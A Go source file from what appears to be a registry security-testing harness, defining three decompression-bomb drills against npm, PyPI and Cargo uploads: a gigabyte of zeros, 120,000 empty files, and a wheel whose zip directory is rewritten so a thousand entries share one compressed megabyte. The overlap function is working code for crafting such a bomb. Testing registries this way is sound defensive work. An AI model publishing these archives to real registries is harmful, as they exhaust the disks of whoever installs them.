// Package decompressionbomb publishes small archives that unpack to something
// very large. What they hold is zeros.
package decompressionbomb

import (
	"context"
	"encoding/binary"
	"fmt"

	"bonded.dev/prove/drill"
	"bonded.dev/prove/visit"
)

// Attacks play the threat.
var Attacks = []drill.Attack{
	{Name: "a gigabyte of zeros", Kinds: []string{"npm", "pypi", "cargo"}, Play: zeros},
	{Name: "a hundred and twenty thousand empty files", Kinds: []string{"npm", "pypi", "cargo"}, Play: many},
	{Name: "a zip of entries that share their bytes", Kinds: []string{"pypi"}, Play: overlapping},
}

const gigabyte = 1 << 30

func zeros(ctx context.Context, s *drill.Scene) (drill.Result, error) {
	up := visit.Upload{Name: s.Name("bomb"), Version: "1.0.0", Members: []visit.Member{{Name: "package/zeros", Zeros: gigabyte}}}
	return throw(ctx, s, up, "a gigabyte")
}

func many(ctx context.Context, s *drill.Scene) (drill.Result, error) {
	const files = 120_000
	up := visit.Upload{Name: s.Name("bomb"), Version: "1.0.0"}
	for i := range files {
		up.Members = append(up.Members, visit.Member{Name: fmt.Sprintf("package/many/%06d", i)})
	}
	return throw(ctx, s, up, fmt.Sprintf("%d files", files))
}

// throw publishes a bomb. That it can be had is the harm.
func throw(ctx context.Context, s *drill.Scene, up visit.Upload, size string) (drill.Result, error) {
	a, err := s.Attempt(ctx, drill.Owner, up)
	if err != nil {
		return drill.Result{}, err
	}
	got, err := s.Install(ctx, up.Name, up.Version)
	if err != nil {
		return drill.Result{}, err
	}
	if len(got) == 0 {
		return drill.Stopped("%s", a)
	}
	return drill.Harmed("%s has %d kB and unpacks to %s on the disk of whoever installs it", got[0].Name, len(got[0].Body)>>10, size)
}

// overlapping is a bomb without nesting: a thousand entries of the directory
// lead to one and the same megabyte of compressed zeros.
func overlapping(ctx context.Context, s *drill.Scene) (drill.Result, error) {
	up := visit.Upload{Name: s.Name("bomb"), Version: "1.0.0", Form: "wheel",
		Members: []visit.Member{{Name: "drill/zeros", Body: []byte("#"), Zeros: 1 << 20}}, Mangle: overlap}
	return throw(ctx, s, up, "a gigabyte in a thousand files")
}

// Places in a zip's end record and in an entry of its directory (APPNOTE 4.3).
const (
	endRecord   = 22
	endEntries  = 8
	endTotal    = 10
	endSize     = 12
	endOffset   = 16
	entryFixed  = 46
	entryNameAt = 28
	entryExtra  = 30
	entryNote   = 32
	shared      = 1000
)

// overlap repeats the last entry of the directory, each time under another name
// of the same length.
func overlap(b []byte) []byte {
	le := binary.LittleEndian
	end := len(b) - endRecord
	if end < 0 || string(b[end:end+4]) != "PK\x05\x06" {
		return b
	}
	from, n := int(le.Uint32(b[end+endOffset:])), int(le.Uint16(b[end+endEntries:]))
	at, last := from, from
	for range n {
		last = at
		at += entryFixed + int(le.Uint16(b[at+entryNameAt:])) + int(le.Uint16(b[at+entryExtra:])) + int(le.Uint16(b[at+entryNote:]))
	}
	entry, name := b[last:at], int(le.Uint16(b[last+entryNameAt:]))
	out := append([]byte{}, b[:at]...)
	for i := range shared {
		copied := append([]byte{}, entry...)
		copy(copied[entryFixed+name-4:], fmt.Sprintf("%04d", i))
		out = append(out, copied...)
	}
	tail := append([]byte{}, b[end:]...)
	le.PutUint16(tail[endEntries:], uint16(n+shared))
	le.PutUint16(tail[endTotal:], uint16(n+shared))
	le.PutUint32(tail[endSize:], uint32(len(out)-from))
	return append(out, tail...)
}
